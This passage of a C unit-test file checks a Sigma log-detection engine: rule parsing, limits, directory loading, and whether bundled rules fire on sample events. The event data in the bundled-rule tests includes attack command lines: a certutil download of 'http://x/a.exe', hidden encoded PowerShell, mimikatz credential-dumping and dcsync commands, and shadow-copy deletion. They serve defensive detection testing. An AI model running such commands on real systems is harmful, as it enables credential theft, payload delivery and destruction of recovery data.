             br, br, br, br, br);
    mw_sigma_ruleset_t *rs = one_rule(y);
    assert_int_equal(fires(rs, mkev("", "f", br, NULL)), 1);
    mw_sigma_ruleset_free(rs);
}

static void test_bad_rule_skipped_rest_loaded(void **st)
{
    (void)st;
    const char *y = "title: good1\ndetection:\n  s:\n    f: x\n  condition: s\n---\n"
                    "title: bad\ndetection:\n  s:\n    f|cidr: 10.0.0.0/33\n  condition: s\n---\n"
                    "title: good2\ndetection:\n  s:\n    f: y\n  condition: s\n";
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    assert_int_equal(mw_sigma_add_string(rs, y, strlen(y), "multi.yml"), MW_EINVAL);
    assert_int_equal(mw_sigma_count(rs), 2);
    assert_non_null(strstr(mw_sigma_last_error(rs), "multi.yml:10: invalid CIDR '10.0.0.0/33'"));
    mw_sigma_ruleset_free(rs);
}

static void test_file_limits(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    size_t big = MW_SIGMA_MAX_FILE + 1;
    char *b = malloc(big);
    assert_non_null(b);
    memset(b, '#', big);
    assert_int_equal(mw_sigma_add_string(rs, b, big, "big.yml"), MW_ETOOBIG);
    assert_non_null(strstr(mw_sigma_last_error(rs), "big.yml:1: rule file larger than"));
    free(b);
    assert_int_equal(mw_sigma_load_file(rs, "/nonexistent/r.yml"), MW_EIO);
    assert_non_null(strstr(mw_sigma_last_error(rs), "/nonexistent/r.yml"));
    size_t nerr = 0;
    assert_int_equal(mw_sigma_load_dir(rs, "/nonexistent-dir", &nerr), MW_EIO);
    /* garbage that is not a rule must never crash */
    const char *junk[] = {"",
                          "---\n",
                          "\x01\x02\x03",
                          "[",
                          "{a: [}",
                          "title: [a\n",
                          "detection: 5\ntitle: x\n",
                          "title: x\ndetection:\n  condition: []\n",
                          "title: x\ndetection:\n  s: {f: x}\n  condition: '1 of'\n",
                          "title: x\ndetection:\n  s: {f: x}\n  condition: 'all of them of'\n",
                          "title: x\ndetection:\n  s: {f: x}\n  condition: not\n",
                          "title: x\ndetection:\n  s: {f: x}\n  condition: ')'\n"};
    for (size_t i = 0; i < sizeof junk / sizeof junk[0]; i++) {
        int rc = mw_sigma_add_string(rs, junk[i], strlen(junk[i]), "junk.yml");
        assert_true(rc == 0 || rc < 0);
    }
    assert_int_equal(mw_sigma_count(rs), 0);
    mw_sigma_ruleset_free(rs);
}

static void test_rule_cap(void **st)
{
    (void)st;
    const char *one = "title: r\ndetection: {s: {f: x}, condition: s}\n---\n";
    size_t l = strlen(one), n = MW_SIGMA_MAX_RULES + 1;
    char *y = malloc(l * n + 1);
    assert_non_null(y);
    for (size_t i = 0; i < n; i++)
        memcpy(y + i * l, one, l);
    y[l * n] = '\0';
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    assert_int_equal(mw_sigma_add_string(rs, y, l * n, "many.yml"), MW_ELIMIT);
    assert_int_equal(mw_sigma_count(rs), MW_SIGMA_MAX_RULES);
    char want[64];
    snprintf(want, sizeof want, "many.yml:%zu: more than %d rules",
             (size_t)MW_SIGMA_MAX_RULES * 3 + 1, MW_SIGMA_MAX_RULES);
    if (!strstr(mw_sigma_last_error(rs), want))
        fail_msg("got '%s', want '%s'", mw_sigma_last_error(rs), want);
    free(y);
    mw_sigma_ruleset_free(rs);
}

/* ---- load_dir: recursive, sorted, extensions ---------------------------- */

static void write_file(const char *path, const char *text)
{
    FILE *fp = fopen(path, "w");
    assert_non_null(fp);
    fputs(text, fp);
    fclose(fp);
}

static void test_load_dir(void **st)
{
    (void)st;
    char dir[] = "/tmp/mwsigma.XXXXXX", p[256];
    assert_non_null(mkdtemp(dir));
    snprintf(p, sizeof p, "%s/sub", dir);
    assert_int_equal(mkdir(p, 0700), 0);
    const char *r = "title: R\ndetection:\n  s:\n    f: x\n  condition: s\n";
    snprintf(p, sizeof p, "%s/sub/b.yaml", dir);
    write_file(p, r);
    snprintf(p, sizeof p, "%s/a.yml", dir);
    write_file(p, r);
    snprintf(p, sizeof p, "%s/c.txt", dir);
    write_file(p, r);
    snprintf(p, sizeof p, "%s/.hidden.yml", dir);
    write_file(p, r);
    snprintf(p, sizeof p, "%s/z.yml", dir);
    write_file(p, "title: broken\ndetection: {s: {f|lt: x}, condition: s}\n");
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    size_t nerr = 99;
    assert_int_equal(mw_sigma_load_dir(rs, dir, &nerr), 0);
    assert_int_equal(nerr, 1);
    assert_int_equal(mw_sigma_count(rs), 2);
    struct hits h = {0};
    mw_event_t *ev = mkev("", "f", "x", NULL);
    assert_int_equal(mw_sigma_match(rs, NULL, ev, collect, &h), 0);
    mw_event_free(ev);
    assert_int_equal(h.n, 2);
    assert_string_equal(h.d[0].rule_id, "a"); /* sorted: a.yml before sub/b.yaml */
    assert_string_equal(h.d[1].rule_id, "b");
    mw_sigma_ruleset_free(rs);
    const char *names[] = {"sub/b.yaml", "a.yml", "c.txt", ".hidden.yml", "z.yml"};
    for (size_t i = 0; i < 5; i++) {
        snprintf(p, sizeof p, "%s/%s", dir, names[i]);
        unlink(p);
    }
    snprintf(p, sizeof p, "%s/sub", dir);
    rmdir(p);
    rmdir(dir);
}

/* ---- the bundled rules ----------------------------------------------------- */

static mw_sigma_ruleset_t *bundled(void)
{
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    size_t nerr = 1;
    assert_int_equal(mw_sigma_load_dir(rs, MW_SOURCE_DIR "/rules", &nerr), 0);
    if (nerr)
        fail_msg("bundled rule refused: %s", mw_sigma_last_error(rs));
    assert_true(mw_sigma_count(rs) >= 10);
    return rs;
}

/* Which rule titles fire, as one "|"-joined string. */
static const char *fired(const mw_sigma_ruleset_t *rs, mw_event_t *ev)
{
    static char out[1024];
    struct hits h = {0};
    assert_int_equal(match_all(rs, ev, &h), 0);
    mw_event_free(ev);
    out[0] = '\0';
    for (int i = 0; i < h.n && i < 16; i++) {
        if (i)
            strcat(out, "|");
        strncat(out, h.d[i].rule_id, sizeof out - strlen(out) - 2);
    }
    return out;
}

#define R_SPRAY "19f93da9-d585-40e8-a5c1-75f6ab71812d"
#define R_SSH "62eb18ea-803b-48f9-9acb-f63580ce34f9"
#define R_PS "435ba1ca-f9dc-43f1-a9f9-40d7284643a5"
#define R_SVC "9029d447-9c2a-4d84-9f8b-74aa8f682d41"
#define R_SVCPATH "cf475df7-8ceb-4e58-8cf6-576aa0332e9f"
#define R_CERTUTIL "3126a297-6273-4f1e-8053-909ae36b01e1"
#define R_WHOAMI "64073cfd-d619-49b6-b9ed-43adf30bcb60"
#define R_CLEARED "a8dadfd3-be16-43a3-b9e9-4ee678d854aa"
#define R_MIMI "5170b667-5649-4223-aeb8-e2244bf35c73"
#define R_VSS "878f6592-1bf9-493d-aae1-ae1a9e96d3b8"

static void test_bundled_rules(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs = bundled();
    /* password spraying: network logon failures fire, interactive ones and
     * machine accounts do not */
    assert_string_equal(fired(rs, mkev("", "EventID", "4625", "LogonType", "3", "TargetUserName",
                                       "svc_sql", "IpAddress", "203.0.113.77", NULL)),
                        R_SPRAY);
    assert_string_equal(fired(rs, mkev("", "EventID", "4625", "LogonType", "10", "TargetUserName",
                                       "bob", "IpAddress", "10.0.0.5", NULL)),
                        R_SPRAY);
    assert_string_equal(fired(rs, mkev("", "EventID", "4625", "LogonType", "2", "TargetUserName",
                                       "alice", "IpAddress", "10.0.0.9", NULL)),
                        "");
    assert_string_equal(fired(rs, mkev("", "EventID", "4625", "LogonType", "3", "TargetUserName",
                                       "WS-042$", "IpAddress", "10.0.0.9", NULL)),
                        "");
    assert_string_equal(fired(rs, mkev("", "EventID", "4624", "LogonType", "3", "TargetUserName",
                                       "bob", "IpAddress", "10.0.0.9", NULL)),
                        "");
    /* sshd */
    assert_string_equal(
        fired(rs,
              mkev("", "process.name", "sshd", "message",
                   "Failed password for invalid user pi from 198.51.100.23 port 40022 ssh2", NULL)),
        R_SSH);
    assert_string_equal(fired(rs, mkev("", "process.name", "sshd", "message",
                                       "Invalid user oracle from 198.51.100.23 port 4002", NULL)),
                        R_SSH);
    assert_string_equal(
        fired(rs, mkev("", "process.name", "sshd", "message",
                       "Accepted password for deploy from 10.1.2.3 port 5 ssh2", NULL)),
        "");
    assert_string_equal(
        fired(rs, mkev("", "process.name", "sudo", "message", "Failed password for root", NULL)),
        "");
    /* encoded PowerShell (Sysmon 1 and Security 4688) */
    assert_string_equal(
        fired(rs, mkev("", "EventID", "1", "Image",
                       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                       "CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgA", NULL)),
        R_PS);
    assert_string_equal(fired(rs, mkev("", "EventID", "4688", "NewProcessName",
                                       "C:\\Program Files\\PowerShell\\7\\pwsh.exe", "CommandLine",
                                       "pwsh -EncodedCommand SQBFAFgA", NULL)),
                        R_PS);
    assert_string_equal(
        fired(rs, mkev("", "EventID", "1", "Image",
                       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                       "CommandLine", "powershell.exe -File C:\\scripts\\encode.ps1", NULL)),
        "");
    assert_string_equal(fired(rs, mkev("", "EventID", "1", "Image", "C:\\tools\\encoder.exe",
                                       "CommandLine", "encoder.exe -enc file", NULL)),
                        "");
    /* new service; from a temp dir it is also suspicious */
    assert_string_equal(
        fired(rs, mkev("", "EventID", "7045", "Provider_Name", "Service Control Manager",
                       "ServiceName", "WinSvcUpdate", "ImagePath",
                       "C:\\Users\\mallory\\AppData\\Local\\Temp\\svcupd.exe -k netsvc", NULL)),
        R_SVC "|" R_SVCPATH);
    assert_string_equal(
        fired(rs, mkev("", "EventID", "7045", "Provider_Name", "Service Control Manager",
                       "ImagePath", "\"C:\\Program Files\\Vendor\\agent.exe\"", NULL)),
        R_SVC);
    assert_string_equal(
        fired(rs, mkev("", "EventID", "4697", "ServiceFileName", "C:\\Windows\\Temp\\x.exe", NULL)),
        R_SVC "|" R_SVCPATH);
    assert_string_equal(
        fired(rs, mkev("", "EventID", "7036", "Provider_Name", "Service Control Manager", NULL)),
        "");
    /* certutil */
    assert_string_equal(
        fired(rs, mkev("", "EventID", "1", "Image", "C:\\Windows\\System32\\certutil.exe",
                       "CommandLine", "certutil -urlcache -split -f http://x/a.exe a.exe", NULL)),
        R_CERTUTIL);
    assert_string_equal(fired(rs, mkev("", "Image", "C:\\Windows\\System32\\certutil.exe",
                                       "CommandLine", "certutil -urlcache -f c:\\a", NULL)),
                        "");
    /* whoami */
    assert_string_equal(fired(rs, mkev("", "Image", "C:\\Windows\\System32\\whoami.exe",
                                       "CommandLine", "whoami /priv", NULL)),
                        R_WHOAMI);
    assert_string_equal(fired(rs, mkev("", "Image", "C:\\Windows\\System32\\whoami.exe",
                                       "CommandLine", "whoami", NULL)),
                        "");
    /* event log cleared */
    assert_string_equal(
        fired(rs, mkev("", "EventID", "1102", "Provider_Name", "Microsoft-Windows-Eventlog", NULL)),
        R_CLEARED);
    assert_string_equal(fired(rs, mkev("", "EventID", "104", "Channel", "System", NULL)),
                        R_CLEARED);
    assert_string_equal(fired(rs, mkev("", "EventID", "104", "Channel", "Application", NULL)), "");
    /* mimikatz (command line or script block) */
    assert_string_equal(
        fired(rs, mkev("", "CommandLine", "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\"",
                       NULL)),
        R_MIMI);
    assert_string_equal(
        fired(rs, mkev("", "EventID", "4104", "ScriptBlockText",
                       "Invoke-Stuff -Command 'LSADUMP::dcsync /user:krbtgt'", NULL)),
        R_MIMI);
    assert_string_equal(
        fired(rs, mkev("", "EventID", "4103", "ScriptBlockText", "lsadump::sam", NULL)), "");
    /* shadow copies */
    assert_string_equal(
        fired(rs, mkev("", "Image", "C:\\Windows\\System32\\vssadmin.exe", "CommandLine",
                       "vssadmin.exe Delete Shadows /All /Quiet", NULL)),
        R_VSS);
    assert_string_equal(fired(rs, mkev("", "Image", "C:\\Windows\\System32\\vssadmin.exe",
                                       "CommandLine", "vssadmin list shadows", NULL)),
                        "");
    mw_sigma_ruleset_free(rs);
}

/* ---- the detector ops (what the engine calls) ---------------------------- */

static void test_detector_ops(void **st)
{
    (void)st;
    const struct mw_detector_ops *ops = &mw_detector_sigma;
    struct mw_config cfg;
    mw_config_defaults(&cfg);
    snprintf(cfg.rules_dir, sizeof cfg.rules_dir, "%s", MW_SOURCE_DIR "/rules");
    void *state = NULL, *scratch = NULL;
    assert_string_equal(ops->name, "sigma");
    assert_int_equal(ops->create(&cfg, &state), 0);
    assert_int_equal(ops->count(state), 10);
    assert_int_equal(ops->scratch_new(state, &scratch), 0);
    struct hits h = {0};
    mw_event_t *ev =
        mkev("", "EventID", "1102", "Provider_Name", "Microsoft-Windows-Eventlog", NULL);
    assert_int_equal(ops->match(state, scratch, ev, collect, &h), 0);
    mw_event_free(ev);
    assert_int_equal(h.n, 1);
    assert_string_equal(h.d[0].type, "defense-evasion");
    assert_int_equal(h.d[0].severity, 2);
    ops->scratch_free(scratch);
    ops->destroy(state);
    /* a directory that cannot be read: the detector cannot run */
    snprintf(cfg.rules_dir, sizeof cfg.rules_dir, "/nonexistent/rules");
    state = (void *)&cfg;
    assert_int_equal(ops->create(&cfg, &state), MW_EIO);
    assert_ptr_equal(state, (void *)&cfg); /* untouched */
}

/* ---- data-driven cases: tests/cases/sigma/<case>/ ----------------------- */

static mw_event_t *event_from_json(const char *line)
{
    json_error_t jerr;
    json_t *o = json_loads(line, 0, &jerr);
    if (!o || !json_is_object(o))
        fail_msg("bad JSON line: %s", line);
    mw_event_t *ev = mw_event_new(MW_SRC_REPLAY, line, strlen(line));
    assert_non_null(ev);
    const char *k;
    json_t *v;
    json_object_foreach(o, k, v)
    {
        char num[64];
        const char *s;
        if (json_is_string(v))
            s = json_string_value(v);
        else if (json_is_integer(v))
            snprintf(num, sizeof num, "%lld", (long long)json_integer_value(v)), s = num;
        else if (json_is_true(v))
            s = "true";
        else if (json_is_false(v))
            s = "false";
        else
            continue;
        assert_int_equal(mw_event_add_field(ev, k, strlen(k), s, strlen(s)), 0);
    }
    json_decref(o);
    return ev;
}

static void run_case(const char *dir, const char *name)
{
    char p[512], line[8192];
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    snprintf(p, sizeof p, "%s/%s/rule.yml", dir, name);
    if (mw_sigma_load_file(rs, p))
        fail_msg("%s: %s", name, mw_sigma_last_error(rs));
    char expected[4096] = "", got[4096] = "";
    snprintf(p, sizeof p, "%s/%s/expected.txt", dir, name);
    FILE *fp = fopen(p, "r");
    assert_non_null(fp);
    while (fgets(line, sizeof line, fp)) {
        int n;
        if (line[0] != '#' && sscanf(line, "%d", &n) == 1) {
            char b[16];
            snprintf(b, sizeof b, "%d,", n);
            strcat(expected, b);
        }
    }
    fclose(fp);
    snprintf(p, sizeof p, "%s/%s/events.jsonl", dir, name);
    fp = fopen(p, "r");
    assert_non_null(fp);
    int lineno = 0;
    while (fgets(line, sizeof line, fp)) {
        lineno++;
        line[strcspn(line, "\n")] = '\0';
        if (!line[0])
            continue;
        struct hits h = {0};
        mw_event_t *ev = event_from_json(line);
        assert_int_equal(match_all(rs, ev, &h), 0);
        mw_event_free(ev);
        if (h.n) {
            char b[16];
            snprintf(b, sizeof b, "%d,", lineno);
            strcat(got, b);
        }
    }
    fclose(fp);
    if (strcmp(expected, got))
        fail_msg("case %s: expected lines [%s] to match, got [%s]", name, expected, got);
    mw_sigma_ruleset_free(rs);
}

static int cmp_names(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static void test_cases(void **st)
{
    (void)st;
    const char *dir = MW_SOURCE_DIR "/tests/cases/sigma";
    DIR *d = opendir(dir);
    assert_non_null(d);
    char *names[256];
    size_t n = 0;
    struct dirent *de;
    while ((de = readdir(d)) && n < 256)
        if (de->d_name[0] != '.')
            names[n++] = strdup(de->d_name);
    closedir(d);
    qsort(names, n, sizeof *names, cmp_names);
    assert_true(n >= 5);
    for (size_t i = 0; i < n; i++) {
        run_case(dir, names[i]);
        free(names[i]);
    }
}

int main(void)
{
    mw_log_set_level(MW_LOG_ERROR);
    sg_hs_min_anchors = 1; /* every slot with a literal anchor gets a database */
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_modifiers),
        cmocka_unit_test(test_hs_prefilter),
        cmocka_unit_test(test_hs_literal_bits),
        cmocka_unit_test(test_wildcards),
        cmocka_unit_test(test_case_and_numbers),
        cmocka_unit_test(test_lists),
        cmocka_unit_test(test_condition_precedence),
        cmocka_unit_test(test_quantifiers),
        cmocka_unit_test(test_missing_fields),
        cmocka_unit_test(test_keywords),
        cmocka_unit_test(test_first_field_wins_and_scratch),
        cmocka_unit_test(test_emit_results),
        cmocka_unit_test(test_metadata),
        cmocka_unit_test(test_severity),
        cmocka_unit_test(test_errors),
        cmocka_unit_test(test_yaml_error_has_column),
        cmocka_unit_test(test_brackets_not_nesting),
        cmocka_unit_test(test_bad_rule_skipped_rest_loaded),
        cmocka_unit_test(test_file_limits),
        cmocka_unit_test(test_rule_cap),
        cmocka_unit_test(test_load_dir),
        cmocka_unit_test(test_bundled_rules),
        cmocka_unit_test(test_detector_ops),
        cmocka_unit_test(test_cases),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
